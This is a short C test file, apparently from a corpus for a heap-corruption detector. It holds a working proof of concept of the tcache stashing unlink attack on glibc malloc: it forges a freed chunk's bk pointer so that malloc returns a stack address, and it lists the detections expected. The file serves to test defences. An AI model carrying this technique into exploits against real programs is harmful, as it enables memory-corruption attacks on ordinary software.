/* SPDX-License-Identifier: MIT */
/* tcache_stashing_unlink_attack: two 0xa0 chunks in a small bin, five in
 * the tcache; the second small-bin chunk's bk is forged to a stack chunk;
 * calloc takes the first chunk and stashes the rest into the tcache,
 * including the fake one, which malloc then returns.
 * EXPECT-FULL: write-after-free,freelist-corruption
 * EXPECT-FAST: freelist-corruption
 * glibc 2.36: attack succeeds. */
#include "corpus.h"

int main(void)
{
	size_t stack_var[16] __attribute__((aligned(16))) = {0};
	size_t *c[9];
	stack_var[3] = (size_t)&stack_var[2]; /* fake bk: writable */
	for (int i = 0; i < 9; i++)
		c[i] = malloc(0x90);
	for (int i = 3; i < 9; i++)
		free(c[i]);		/* 6 in the tcache */
	free(c[1]);			/* 7: full */
	free(c[0]);			/* unsorted */
	free(c[2]);			/* unsorted */
	corpus_sink = malloc(0xa0);	/* both -> small bin */
	corpus_sink = malloc(0x90);	/* 6 left in the tcache */
	corpus_sink = malloc(0x90);	/* 5 left */
	c[2][1] = (size_t)stack_var;	/* the forged bk */
	corpus_sink = calloc(1, 0x90);	/* takes c[0], stashes c[2] and the fake */
	void *q = malloc(0x90);
	return corpus_result(q == (void *)&stack_var[2]);
}
